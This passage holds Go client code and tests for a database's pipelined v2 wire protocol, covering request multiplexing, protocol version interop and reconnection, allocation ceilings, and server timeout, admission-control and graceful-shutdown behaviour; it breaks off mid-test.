		t.Fatalf("ProtocolVersion = %d, want 2", got)
	}
	if _, err := c.Exec("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	res, err := c.Exec("INSERT INTO t (name) VALUES ('ann'), ('bob')")
	if err != nil {
		t.Fatal(err)
	}
	if res.Affected != 2 || res.LastInsertID != 2 {
		t.Errorf("insert result = %+v", res)
	}
	res, err = c.ExecArgs("SELECT id, name FROM t WHERE id = ?", engine.Value{Kind: engine.KindInt, I: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][1].S != "ann" {
		t.Errorf("rows = %v", res.Rows)
	}
	if res.Columns[0] != "id" || res.Columns[1] != "name" {
		t.Errorf("columns = %v", res.Columns)
	}
	// Errors still arrive per request, not per connection.
	if _, err := c.Exec("SELECT * FROM missing"); err == nil {
		t.Fatal("want error for missing table")
	}
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("session must survive a query error: %v", err)
	}
}

// TestPipelinedManyFuturesInFlight drives a full window of concurrent
// submits and checks every response is matched to its request.
func TestPipelinedManyFuturesInFlight(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dialOpts(t, addr, WithPipeline(16))
	if _, err := c.Exec("CREATE TABLE t (id INT PRIMARY KEY, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	const n = 200
	for i := 0; i < n; i++ {
		if _, err := c.Exec(fmt.Sprintf("INSERT INTO t (id, name) VALUES (%d, 'u%d')", i, i)); err != nil {
			t.Fatal(err)
		}
	}
	futs := make([]*Future, n)
	for i := 0; i < n; i++ {
		futs[i] = c.Submit(fmt.Sprintf("SELECT name FROM t WHERE id = %d", i))
	}
	for i, f := range futs {
		res, err := f.Wait()
		if err != nil {
			t.Fatalf("future %d: %v", i, err)
		}
		if len(res.Rows) != 1 || res.Rows[0][0].S != fmt.Sprintf("u%d", i) {
			t.Fatalf("future %d matched wrong response: %v", i, res.Rows)
		}
	}
	// Wait may be called again and must return the cached outcome.
	if res, err := futs[0].Wait(); err != nil || res.Rows[0][0].S != "u0" {
		t.Fatalf("second Wait: %v %v", res, err)
	}
}

// TestPipelinedOutOfOrderCompletion pins the multiplexing itself: a
// slow query submitted first must not block a fast one submitted
// after it, and both must complete correctly.
func TestPipelinedOutOfOrderCompletion(t *testing.T) {
	snapshotGoroutines(t)
	guard := core.New(core.Config{Mode: core.ModeTraining})
	slow := make(chan struct{})
	db := engine.New(engine.WithQueryHook(&gatedHook{
		inner: guard, match: "SELECT id FROM t WHERE id = 1", gate: slow,
	}))
	srv := NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })

	c := dialOpts(t, addr, WithPipeline(8))
	if _, err := c.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("INSERT INTO t (id) VALUES (1), (2)"); err != nil {
		t.Fatal(err)
	}

	slowFut := c.Submit("SELECT id FROM t WHERE id = 1") // parks in the engine
	fastFut := c.Submit("SELECT id FROM t WHERE id = 2")

	fastDone := make(chan error, 1)
	go func() {
		_, err := fastFut.Wait()
		fastDone <- err
	}()
	select {
	case err := <-fastDone:
		if err != nil {
			t.Fatalf("fast query: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("fast query blocked behind slow one: no out-of-order completion")
	}
	close(slow)
	if _, err := slowFut.Wait(); err != nil {
		t.Fatalf("slow query: %v", err)
	}
}

// TestPipelineWindowBounds checks the client never exceeds its
// negotiated in-flight window: with the server wedged, window+1
// submits must leave exactly `window` in flight and the extra submit
// blocked.
func TestPipelineWindowBounds(t *testing.T) {
	snapshotGoroutines(t)
	guard := core.New(core.Config{Mode: core.ModeTraining})
	gate := make(chan struct{})
	var once sync.Once
	db := engine.New(engine.WithQueryHook(&gatedHook{
		inner: guard, match: "SELECT id FROM t", gate: gate,
	}))
	srv := NewServer(db, WithPipelineWorkers(8), WithMaxInFlight(64))
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { once.Do(func() { close(gate) }); _ = srv.Close() })

	const window = 4
	c := dialOpts(t, addr, WithPipeline(window))
	if _, err := c.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}

	var submitted sync.WaitGroup
	futs := make([]*Future, window+1)
	blocked := make(chan int, window+1)
	for i := range futs {
		submitted.Add(1)
		go func(i int) {
			defer submitted.Done()
			f := c.Submit("SELECT id FROM t")
			futs[i] = f
			blocked <- i
		}(i)
	}
	// Exactly `window` submits may return; the last must be blocked on
	// the window until the gate opens.
	for i := 0; i < window; i++ {
		select {
		case <-blocked:
		case <-time.After(5 * time.Second):
			t.Fatal("submit under the window blocked")
		}
	}
	select {
	case <-blocked:
		t.Fatal("submit beyond the window did not block")
	case <-time.After(100 * time.Millisecond):
	}
	once.Do(func() { close(gate) })
	submitted.Wait()
	for _, f := range futs {
		if _, err := f.Wait(); err != nil {
			t.Fatal(err)
		}
	}
}

// --- interop matrix: {v1,v2 client} × {v1,v2 server} × reconnect -----

// startInteropServer boots a server with one registered domain and an
// optional hello version limit (1 simulates a pre-pipelining build).
func startInteropServer(t *testing.T, limit int) (string, *Server) {
	t.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	if _, err := guard.RegisterDomain("shop", core.Config{Mode: core.ModeTraining}); err != nil {
		t.Fatal(err)
	}
	db := engine.New(engine.WithQueryHook(guard))
	opts := []ServerOption{WithDomainResolver(func(app string) string {
		if d, ok := guard.Domain(app); ok {
			return d.Name()
		}
		return core.DefaultDomain
	})}
	if limit > 0 {
		opts = append(opts, WithHelloVersionLimit(limit))
	}
	srv := NewServer(db, opts...)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id) VALUES (7)"); err != nil {
		t.Fatal(err)
	}
	return addr, srv
}

func TestProtocolInteropMatrix(t *testing.T) {
	cases := []struct {
		name        string
		serverLimit int // 0 = current (v2) server
		clientOpts  []ClientOption
		wantProto   int
		wantDomain  string
	}{
		{"v1client_v1server", 1, []ClientOption{WithHello("shop")}, 1, "shop"},
		{"v1client_v2server", 0, []ClientOption{WithHello("shop")}, 1, "shop"},
		{"v2client_v1server", 1, []ClientOption{WithHello("shop"), WithPipeline(8)}, 1, "shop"},
		{"v2client_v2server", 0, []ClientOption{WithHello("shop"), WithPipeline(8)}, 2, "shop"},
		{"legacy_noHello_v2server", 0, nil, 1, ""},
		// A pipeline handshake with no app still binds (to the default
		// domain) — the handshake is what carries the version.
		{"pipeline_noApp_v2server", 0, []ClientOption{WithPipeline(8)}, 2, "default"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			snapshotGoroutines(t)
			addr, _ := startInteropServer(t, tc.serverLimit)
			opts := append([]ClientOption{WithAutoReconnect(5)}, tc.clientOpts...)
			c := dialOpts(t, addr, opts...)
			if got := c.ProtocolVersion(); got != tc.wantProto {
				t.Fatalf("negotiated protocol %d, want %d", got, tc.wantProto)
			}
			if got := c.Domain(); got != tc.wantDomain {
				t.Fatalf("domain %q, want %q", got, tc.wantDomain)
			}
			res, err := c.Exec("SELECT id FROM t")
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Rows) != 1 || res.Rows[0][0].I != 7 {
				t.Fatalf("rows = %v", res.Rows)
			}

			// Reconnect leg: cut the connection out from under the client;
			// the next call must redial AND re-negotiate the same protocol
			// version and domain binding.
			c.mu.Lock()
			if c.pipe != nil {
				p := c.pipe
				c.mu.Unlock()
				_ = p.conn.Close()
				// Wait for the poison to detach the pipe.
				deadline := time.Now().Add(5 * time.Second)
				for {
					c.mu.Lock()
					dead := c.pipe == nil
					c.mu.Unlock()
					if dead || time.Now().After(deadline) {
						break
					}
					time.Sleep(5 * time.Millisecond)
				}
			} else {
				_ = c.conn.Close()
				c.mu.Unlock()
			}
			// One call may fail (the poisoned in-flight state); the next
			// must succeed on a fresh, renegotiated session.
			var lastErr error
			for i := 0; i < 3; i++ {
				if _, lastErr = c.Exec("SELECT id FROM t"); lastErr == nil {
					break
				}
			}
			if lastErr != nil {
				t.Fatalf("exec after reconnect: %v", lastErr)
			}
			if got := c.ProtocolVersion(); got != tc.wantProto {
				t.Fatalf("protocol after reconnect %d, want %d (renegotiation lost)", got, tc.wantProto)
			}
			if got := c.Domain(); got != tc.wantDomain {
				t.Fatalf("domain after reconnect %q, want %q", got, tc.wantDomain)
			}
		})
	}
}

// TestPipelinePoisonFailsInFlight: killing the transport mid-window
// fails every in-flight future with a poisoned-connection error and
// never wedges a waiter.
func TestPipelinePoisonFailsInFlight(t *testing.T) {
	snapshotGoroutines(t)
	guard := core.New(core.Config{Mode: core.ModeTraining})
	gate := make(chan struct{})
	var once sync.Once
	defer once.Do(func() { close(gate) })
	db := engine.New(engine.WithQueryHook(&gatedHook{
		inner: guard, match: "SELECT id FROM t", gate: gate,
	}))
	srv := NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })

	c := dialOpts(t, addr, WithPipeline(8))
	if _, err := c.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	futs := make([]*Future, 4)
	for i := range futs {
		futs[i] = c.Submit("SELECT id FROM t") // all park in the engine
	}
	c.mu.Lock()
	p := c.pipe
	c.mu.Unlock()
	_ = p.conn.Close() // cut the wire with responses pending
	for i, f := range futs {
		if _, err := f.Wait(); !errors.Is(err, ErrClientClosed) {
			t.Fatalf("future %d after poison: err = %v, want ErrClientClosed", i, err)
		}
	}
	once.Do(func() { close(gate) })
	// Without auto-reconnect the client stays poisoned.
	if _, err := c.Exec("SELECT id FROM t"); !errors.Is(err, ErrClientClosed) {
		t.Fatalf("exec after poison: %v", err)
	}
}

// TestPipelinedDrainAnswersInFlight: graceful shutdown completes the
// queries already inside the server before the session ends.
func TestPipelinedDrainAnswersInFlight(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, db := startServerOpts(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	c := dialOpts(t, addr, WithPipeline(8))
	for i := 0; i < 4; i++ {
		if _, err := c.Exec("INSERT INTO t (id) VALUES (1)"); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	// The drained session is gone: the next exec fails (no reconnect).
	if _, err := c.Exec("SELECT id FROM t"); err == nil {
		t.Fatal("exec after drain succeeded")
	}
}

// --- satellite 1: alloc ceilings for whole wire round-trips ----------

// measureRoundTripAllocs runs one warmed-up exec loop and returns the
// process-wide mallocs per operation — client AND server side together,
// which is what the pooling work actually targets.
func measureRoundTripAllocs(t *testing.T, c *Client, loops int) float64 {
	t.Helper()
	query := "SELECT id, name FROM t WHERE id = 1"
	for i := 0; i < 50; i++ { // warm pools, caches, grown buffers
		if _, err := c.Exec(query); err != nil {
			t.Fatal(err)
		}
	}
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for i := 0; i < loops; i++ {
		if _, err := c.Exec(query); err != nil {
			t.Fatal(err)
		}
	}
	runtime.ReadMemStats(&after)
	return float64(after.Mallocs-before.Mallocs) / float64(loops)
}

func TestWireRoundTripAllocCeiling(t *testing.T) {
	if testing.Short() {
		t.Skip("alloc measurement is noisy under -short")
	}
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	addr, _, db := startServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id, name) VALUES (1, 'ann')"); err != nil {
		t.Fatal(err)
	}

	cj := dialOpts(t, addr)
	jsonAllocs := measureRoundTripAllocs(t, cj, 300)

	cb := dialOpts(t, addr, WithPipeline(8))
	binAllocs := measureRoundTripAllocs(t, cb, 300)

	t.Logf("per round-trip mallocs (process-wide): json=%.1f v2=%.1f", jsonAllocs, binAllocs)
	// Absolute ceilings with margin (the totals are dominated by engine
	// execution and result copies, not the codec), plus the relative
	// property the codec work actually targets: binary under JSON.
	if jsonAllocs > 65 {
		t.Errorf("JSON round trip allocates %.1f/op, ceiling 65", jsonAllocs)
	}
	if binAllocs > 50 {
		t.Errorf("v2 round trip allocates %.1f/op, ceiling 50", binAllocs)
	}
	if binAllocs >= jsonAllocs {
		t.Errorf("v2 path (%.1f/op) does not undercut JSON path (%.1f/op)", binAllocs, jsonAllocs)
	}
}
