// pipeline.go — the client half of the v2 pipelined transport.
//
// One pipe per negotiated connection. Callers submit requests from any
// number of goroutines; each submit takes a window token (the bounded
// in-flight window), registers a pending completion under the next
// sequence number, appends the encoded frame to a shared buffered
// writer and signals the flusher. A single reader goroutine receives
// response frames — in whatever order the server finished them — and
// completes the matching pending by sequence number. The flusher
// goroutine turns the write buffer into syscalls: it coalesces whatever
// accumulated since its last wake-up into one flush, so a full window
// of small requests leaves as a handful of writes instead of one each.
//
// Failure semantics follow the v1 client exactly: any transport or
// protocol error (including an unknown or duplicate sequence number)
// poisons the connection, every request in flight fails with a
// poisoned-connection error, and nothing is ever replayed — a request
// that died on the wire may have executed server-side.
package wire

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/septic-db/septic/internal/engine"
)

// DefaultPipelineWindow bounds in-flight requests per pipelined client
// connection when WithPipeline is given a non-positive window.
const DefaultPipelineWindow = 16

// v2BufSize sizes the buffered reader/writer of a v2 connection end.
const v2BufSize = 32 << 10

// outcome is one completed request.
type outcome struct {
	res *engine.Result
	err error
}

// pending is the completion slot of one in-flight request. The channel
// has capacity 1 and is used exactly once per checkout, so pendings are
// pooled.
type pending struct {
	ch chan outcome
}

var pendingPool = sync.Pool{New: func() any {
	return &pending{ch: make(chan outcome, 1)}
}}

// Future is the handle of one pipelined request. Wait blocks until the
// server's response (or the connection's failure) and may be called
// more than once; the first call caches the outcome.
type Future struct {
	mu   sync.Mutex
	p    *pending
	res  *engine.Result
	err  error
	done bool
}

// Wait returns the request's result, blocking until it completes.
func (f *Future) Wait() (*engine.Result, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if !f.done {
		o := <-f.p.ch
		f.res, f.err, f.done = o.res, o.err, true
		pendingPool.Put(f.p)
		f.p = nil
	}
	return f.res, f.err
}

// completedFuture wraps an already-known outcome (sync fallback and
// fail-fast paths).
func completedFuture(res *engine.Result, err error) *Future {
	return &Future{res: res, err: err, done: true}
}

// pipe is the per-connection v2 client state.
type pipe struct {
	owner *Client
	conn  net.Conn

	// write side: wmu serializes frame appends into bw; kick wakes the
	// flusher (capacity 1 — a pending wake-up covers any number of
	// appended frames, which is what makes flushes coalesce).
	wmu  sync.Mutex
	bw   *bufio.Writer
	kick chan struct{}

	// window holds one token per in-flight request.
	window chan struct{}

	// mu guards the sequence counter and the pending map.
	mu      sync.Mutex
	seq     uint64
	pending map[uint64]*pending
	broken  error // sticky poison cause; nil while healthy

	readerDone  chan struct{} // closed when the reader exits (pipe dead)
	flusherDone chan struct{}
}

// newPipe starts the reader and flusher for a freshly negotiated v2
// connection.
func newPipe(c *Client, conn net.Conn, window int) *pipe {
	if window <= 0 {
		window = DefaultPipelineWindow
	}
	p := &pipe{
		owner:       c,
		conn:        conn,
		bw:          bufio.NewWriterSize(conn, v2BufSize),
		kick:        make(chan struct{}, 1),
		window:      make(chan struct{}, window),
		pending:     make(map[uint64]*pending),
		readerDone:  make(chan struct{}),
		flusherDone: make(chan struct{}),
	}
	go p.readLoop()
	go p.flushLoop()
	return p
}

// submit sends one request and returns its Future. It blocks only on
// the in-flight window, never on the server's answer.
func (p *pipe) submit(req *Request) *Future {
	select {
	case p.window <- struct{}{}:
	case <-p.readerDone:
		return completedFuture(nil, p.failure())
	}

	p.mu.Lock()
	if p.broken != nil {
		err := p.broken
		p.mu.Unlock()
		<-p.window
		return completedFuture(nil, err)
	}
	p.seq++
	seq := p.seq
	pend := pendingPool.Get().(*pending)
	p.pending[seq] = pend
	p.mu.Unlock()

	buf := getEncBuf()
	frame, err := appendRequestFrame(buf.b[:0], seq, req)
	buf.b = frame
	if err == nil {
		p.wmu.Lock()
		_, err = p.bw.Write(frame)
		p.wmu.Unlock()
	}
	putEncBuf(buf)
	if err != nil {
		p.poison(fmt.Errorf("write request: %w", err))
		return &Future{p: pend}
	}
	select {
	case p.kick <- struct{}{}:
	default: // a wake-up is already pending; it covers this frame too
	}
	return &Future{p: pend}
}

// readLoop receives response frames and completes pendings by sequence
// number until the transport fails or the client closes.
func (p *pipe) readLoop() {
	defer close(p.readerDone)
	br := bufio.NewReaderSize(p.conn, v2BufSize)
	buf := getEncBuf()
	defer putEncBuf(buf)
	resp := getResponse()
	defer putResponse(resp)
	for {
		seq, typ, body, err := readBinaryFrame(br, buf)
		if err != nil {
			p.poison(fmt.Errorf("read response: %w", err))
			return
		}
		if typ != frameResult {
			p.poison(fmt.Errorf("protocol error: unexpected frame type 0x%02x", typ))
			return
		}
		p.mu.Lock()
		pend, ok := p.pending[seq]
		if ok {
			delete(p.pending, seq)
		}
		p.mu.Unlock()
		if !ok {
			p.poison(fmt.Errorf("protocol error: response for unknown sequence %d", seq))
			return
		}
		resp.reset()
		if err := decodeResponseBody(body, resp); err != nil {
			// The pending fails with the decode error; the stream
			// position is still sound (the frame was length-delimited),
			// but a corrupt frame means an unreliable peer — poison.
			pend.ch <- outcome{err: err}
			<-p.window
			p.poison(err)
			return
		}
		res, rerr := responseToResult(resp)
		pend.ch <- outcome{res: res, err: rerr}
		<-p.window
	}
}

// flushLoop drives buffered frames onto the wire. Each wake-up flushes
// everything appended since the previous flush — the client-side write
// coalescing that batches a burst of submits into one syscall.
func (p *pipe) flushLoop() {
	defer close(p.flusherDone)
	for {
		select {
		case <-p.kick:
			p.wmu.Lock()
			err := p.bw.Flush()
			p.wmu.Unlock()
			if err != nil {
				p.poison(fmt.Errorf("flush requests: %w", err))
				return
			}
		case <-p.readerDone:
			return
		}
	}
}

// poison marks the pipe dead exactly once: the connection is closed
// (unblocking the reader), every in-flight pending fails, and the
// owning client is told so its next call redials or fails fast.
func (p *pipe) poison(err error) {
	p.mu.Lock()
	if p.broken != nil {
		p.mu.Unlock()
		return
	}
	p.broken = err
	orphans := make([]*pending, 0, len(p.pending))
	for seq, pend := range p.pending {
		delete(p.pending, seq)
		orphans = append(orphans, pend)
	}
	p.mu.Unlock()

	_ = p.conn.Close()
	failure := p.failure()
	for _, pend := range orphans {
		pend.ch <- outcome{err: failure}
		<-p.window
	}
	p.owner.pipeBroken(p, err)
}

// failure is the error in-flight and later requests observe.
func (p *pipe) failure() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.broken == nil {
		return ErrClientClosed
	}
	return fmt.Errorf("%w (connection poisoned: %v)", ErrClientClosed, p.broken)
}

// close tears the pipe down (client Close or replacement by a redial).
func (p *pipe) close() {
	p.poison(errors.New("client closed"))
	<-p.readerDone
	<-p.flusherDone
}

// responseToResult converts a wire response into the caller-visible
// result/error pair, mirroring the v1 client's handling.
func responseToResult(resp *Response) (*engine.Result, error) {
	if resp.Shed {
		// Overload control rejected this one request before execution:
		// the session stays healthy (no poison) and the typed error
		// carries the server's retry-after hint.
		return nil, &OverloadError{
			RetryAfter: time.Duration(resp.RetryAfterMS) * time.Millisecond,
			msg:        resp.Error,
		}
	}
	if resp.Busy {
		return nil, ErrServerBusy
	}
	if resp.Error != "" {
		if resp.Blocked {
			return nil, fmt.Errorf("%w: %s", ErrServerBlocked, resp.Error)
		}
		return nil, errors.New(resp.Error)
	}
	res := &engine.Result{
		Affected:     resp.Affected,
		LastInsertID: resp.LastInsertID,
	}
	if len(resp.Columns) > 0 {
		res.Columns = append([]string(nil), resp.Columns...)
	}
	res.Rows = make([][]engine.Value, len(resp.Rows))
	for i, row := range resp.Rows {
		vals := make([]engine.Value, len(row))
		for j, w := range row {
			vals[j] = FromWire(w)
		}
		res.Rows[i] = vals
	}
	return res, nil
}
