package wire

import (
	"context"
	"errors"
	"fmt"
	"net"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
)

// snapshotGoroutines records the current goroutine count for a leak
// check at the end of the test: after servers and clients shut down,
// the count must return to (near) the snapshot. The small slack absorbs
// runtime-internal goroutines; the retry loop absorbs teardown lag.
func snapshotGoroutines(t *testing.T) {
	t.Helper()
	base := runtime.NumGoroutine()
	t.Cleanup(func() {
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			if runtime.NumGoroutine() <= base+2 {
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
		buf := make([]byte, 1<<20)
		n := runtime.Stack(buf, true)
		t.Errorf("goroutine leak: %d live, snapshot was %d\n%s",
			runtime.NumGoroutine(), base, buf[:n])
	})
}

// startServerOpts boots a protected server with fail-safe options.
func startServerOpts(t *testing.T, cfg core.Config, opts ...ServerOption) (string, *Server, *engine.DB) {
	t.Helper()
	guard := core.New(cfg)
	db := engine.New(engine.WithQueryHook(guard))
	srv := NewServer(db, opts...)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr, srv, db
}

func TestAcceptLoopRetriesTransientErrors(t *testing.T) {
	snapshotGoroutines(t)
	db := engine.New()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	srv := NewServer(db)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	// The first three Accepts fail with a transient error; a fatal-on-
	// any-error accept loop would be dead before the client arrives.
	if err := srv.Serve(faultinject.NewFlakyListener(ln, 3)); err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("server did not recover from transient accept errors: %v", err)
	}
}

func TestIdleClientDisconnectedByIdleTimeout(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _ := startServerOpts(t, core.Config{Mode: core.ModeTraining},
		WithIdleTimeout(100*time.Millisecond))

	// Hold a connection open and send nothing.
	conn := rawDial(t, addr)
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second))
	start := time.Now()
	buf := make([]byte, 1)
	_, err := conn.Read(buf)
	if err == nil {
		t.Fatal("server answered an idle connection")
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("idle disconnect took %v, want ~100ms", elapsed)
	}
}

func TestSlowLorisHalfFrameDisconnectedByReadTimeout(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _ := startServerOpts(t, core.Config{Mode: core.ModeTraining},
		WithIdleTimeout(time.Minute), WithReadTimeout(100*time.Millisecond))

	// Start a frame (header promises 1000 bytes) and stall: the read
	// timeout — not the minute-long idle timeout — must cut the session.
	conn := rawDial(t, addr)
	if _, err := conn.Write([]byte{0, 0, 3, 0xE8}); err != nil {
		t.Fatal(err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second))
	start := time.Now()
	buf := make([]byte, 1)
	if _, err := conn.Read(buf); err == nil {
		t.Fatal("server kept a half-frame session alive")
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("half-frame disconnect took %v, want ~100ms", elapsed)
	}
}

func TestQueryTimeoutReturnsErrorWithoutLeak(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, db := startServerOpts(t, core.Config{Mode: core.ModeTraining},
		WithQueryTimeout(50*time.Millisecond))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}

	// Stall the execute stage well past the query timeout.
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute {
			time.Sleep(300 * time.Millisecond)
		}
	})
	defer faultinject.Disarm()
	start := time.Now()
	_, err := c.Exec("SELECT id FROM t")
	if err == nil {
		t.Fatal("overrunning query must return an error")
	}
	if elapsed := time.Since(start); elapsed > 200*time.Millisecond {
		t.Fatalf("timeout response took %v, want ~50ms (watchdog must not wait for the stage)", elapsed)
	}
	faultinject.Disarm()

	// The session survives the timed-out query and keeps serving; the
	// abandoned execution is discarded (the goroutine-leak cleanup
	// asserts it exits).
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("session dead after query timeout: %v", err)
	}
}

func TestAdmissionControlRefusesBeyondMaxConns(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, db := startServerOpts(t, core.Config{Mode: core.ModeTraining},
		WithMaxConns(2), WithAcceptBacklog(0, 0))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}

	// Two admitted sessions hold the only slots.
	c1, c2 := dial(t, addr), dial(t, addr)
	if _, err := c1.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}
	if _, err := c2.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}

	// A third connection is refused with the clean busy error.
	c3, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c3.Close()
	if _, err := c3.Exec("SELECT id FROM t"); !errors.Is(err, ErrServerBusy) {
		t.Fatalf("err = %v, want ErrServerBusy", err)
	}
	if srv.Refused() == 0 {
		t.Error("Refused() = 0, want refusals counted")
	}

	// Freeing a slot admits the next connection.
	if err := c1.Close(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(3 * time.Second)
	for {
		c4, err := Dial(addr)
		if err == nil {
			_, err = c4.Exec("SELECT id FROM t")
			c4.Close()
			if err == nil {
				break
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("slot never freed after close: %v", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestAdmissionBacklogWaitsForSlot(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, db := startServerOpts(t, core.Config{Mode: core.ModeTraining},
		WithMaxConns(1), WithAcceptBacklog(1, 2*time.Second))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	c1 := dial(t, addr)
	if _, err := c1.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}
	// The second connection parks in the backlog; releasing the slot
	// admits it within the wait budget.
	c2, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	done := make(chan error, 1)
	go func() {
		_, err := c2.Exec("SELECT id FROM t")
		done <- err
	}()
	time.Sleep(100 * time.Millisecond) // let it reach the backlog
	if err := c1.Close(); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("backlogged connection failed: %v", err)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("backlogged connection never admitted")
	}
}

// TestGracefulShutdownUnderLoad is the drain contract: N concurrent
// clients are mid-traffic when Shutdown runs. Every in-flight query
// completes or fails with a clean transport error — never a hang, never
// a half-frame — and no serving goroutine survives.
func TestGracefulShutdownUnderLoad(t *testing.T) {
	snapshotGoroutines(t)
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	srv := NewServer(db, WithWriteTimeout(time.Second))
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	if _, err := db.Exec("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, n INT)"); err != nil {
		t.Fatal(err)
	}

	const clients = 8
	var (
		wg        sync.WaitGroup
		successes atomic.Int64
		badErrors atomic.Int64
		started   sync.WaitGroup
	)
	stop := make(chan struct{})
	started.Add(clients)
	for i := 0; i < clients; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			c, err := Dial(addr)
			if err != nil {
				started.Done()
				return
			}
			defer c.Close()
			first := true
			for {
				select {
				case <-stop:
					return
				default:
				}
				_, err := c.Exec(fmt.Sprintf("INSERT INTO t (n) VALUES (%d)", n))
				if first {
					started.Done()
					first = false
				}
				if err != nil {
					// After shutdown the only acceptable failure is a
					// clean transport-level error — one that poisoned the
					// client, proving the query died on the wire, not
					// half-processed. A server-reported engine error does
					// not poison, so the follow-up probe distinguishes
					// the two.
					if !errors.Is(err, ErrClientClosed) {
						if _, probe := c.Exec("SELECT 1"); !errors.Is(probe, ErrClientClosed) {
							badErrors.Add(1)
							t.Logf("unclean error: %v (probe: %v)", err, probe)
						}
					}
					return
				}
				successes.Add(1)
			}
		}(i)
	}
	started.Wait() // every client has at least one query through

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	close(stop)
	wg.Wait()

	if badErrors.Load() > 0 {
		t.Errorf("%d clients saw unclean errors during drain", badErrors.Load())
	}
	// Drain semantics: every client-visible success was fully executed.
	if got := db.Stats().Executed; got < successes.Load() {
